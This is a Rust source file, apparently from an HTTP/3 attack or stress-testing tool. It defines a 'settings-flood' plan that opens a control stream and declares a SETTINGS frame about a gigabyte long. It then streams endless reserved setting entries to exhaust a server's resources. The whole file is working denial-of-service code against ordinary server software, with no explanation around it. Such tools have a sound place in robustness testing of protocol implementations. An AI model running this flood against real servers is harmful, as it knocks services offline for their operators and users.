//! A SETTINGS frame with thousands of entries.

use crate::attack::{Plan, Victim};
use crate::http;

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "settings-flood",
    labels: &["A78", "A79"],
    summary: "an endless SETTINGS frame with unknown settings",
    victim: Victim::Server,
    make: || Box::new(settings_flood()),
};

fn settings_flood() -> Crowd {
    Crowd::new(2, |connection, progress, _| {
        let id = http::uni_stream(http::CONTROL);
        let mut bytes = Vec::new();
        if progress.offset == 0 {
            bytes.push(0x00);
            bytes.extend(http::header(http::SETTINGS, 1 << 30));
        }
        for _ in 0..SETTINGS {
            progress.streams += 1;
            // Identifiers of the form 0x1f * N + 0x21 are reserved and ignored.
            crate::put_varint(&mut bytes, 0x21 + 0x1f * progress.streams);
            crate::put_varint(&mut bytes, 0);
        }
        connection.push_bytes(http::stream(id, progress.offset, &bytes, false));
        progress.offset += bytes.len() as u64;
    })
}

/// Settings in one packet.
const SETTINGS: usize = 200;
